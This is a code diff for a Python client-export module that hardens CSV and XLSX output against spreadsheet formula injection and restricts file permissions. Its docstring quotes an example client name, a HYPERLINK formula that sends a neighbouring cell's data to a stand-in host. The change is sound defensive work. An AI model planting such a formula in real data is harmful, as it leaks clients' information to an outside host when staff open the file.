@@ -1,5 +1,20 @@
 """Export of companies (C1; needs ``clients`` + ``export``): the visible companies
-matching a filter, to CSV or XLSX, in the columns the import reads back."""
+matching a filter, to CSV or XLSX, in the columns the import reads back.
+
+No exported text becomes a formula in a spreadsheet (a client named
+``=HYPERLINK("http://x/?d="&B3,"Open")`` stays that text):
+
+- XLSX: every text cell is written with the string type, so it is exactly the text,
+  never a formula or an error value; numbers (the id, the debt) stay numbers.
+- CSV: a file has no types, so a text cell that a spreadsheet would evaluate gets a
+  single quote in front (``'=HYPERLINK(…)``) by the OWASP rule (``domain.formulas``,
+  which says why a phone number such as ``+7 495 111-22-33`` is left as it is); numbers
+  are written as numbers (``-100.00``). The import takes that quote off again, so an
+  exported file imported back gives the same names.
+
+Both files are created readable by their owner only (mode 0600, ``qstui.files``):
+they hold the clients' data.
+"""
 
 from __future__ import annotations
 
@@ -20,6 +35,8 @@ from qstui.domain.clients import (
 )
 from qstui.domain.errors import ValidationFailed
 from qstui.domain.formatting import day
+from qstui.domain.formulas import quote_formula
+from qstui.files import open_private
 from qstui.i18n import _, language
 from qstui.services import rights as R
 from qstui.services.clients.debt import client_debts
@@ -116,7 +133,7 @@ def export_clients(ctx: Context, path: str | Path, flt: ClientFilter | None = No
     keys = [key for key, _ru, _en in EXPORT_COLUMNS]
     count = 0
     if suffix == ".csv":
-        with target.open("w", encoding="utf-8-sig", newline="") as out:
+        with open_private(target, "w", encoding="utf-8-sig", newline="") as out:
             writer = csv.writer(out, delimiter=";")
             writer.writerow(_headers())
             for row in rows:
@@ -127,12 +144,25 @@ def export_clients(ctx: Context, path: str | Path, flt: ClientFilter | None = No
 
     book = Workbook(write_only=True)
     sheet = book.create_sheet(_("Clients"))
-    sheet.append(_headers())
+    sheet.append([_xlsx_cell(sheet, header) for header in _headers()])
     for row in rows:
-        sheet.append([row[k] for k in keys])
+        sheet.append([_xlsx_cell(sheet, row[k]) for k in keys])
         count += 1
-    book.save(target)
+    with open_private(target, "wb") as out:
+        book.save(out)
     return count
+
+
+def _xlsx_cell(sheet: Any, value: Any) -> Any:
+    """A text as a string cell (openpyxl would make ``=…`` a formula and ``#N/A`` an
+    error); anything else as it is."""
+    if not isinstance(value, str):
+        return value
+    from openpyxl.cell import WriteOnlyCell
+
+    cell = WriteOnlyCell(sheet, value=value)
+    cell.data_type = "s"
+    return cell
 
 
 def _csv_cell(value: Any) -> str:
@@ -142,4 +172,6 @@ def _csv_cell(value: Any) -> str:
         return day(value)
     if isinstance(value, Decimal):
         return format(value, "f")
+    if isinstance(value, str):
+        return quote_formula(value)
     return str(value)
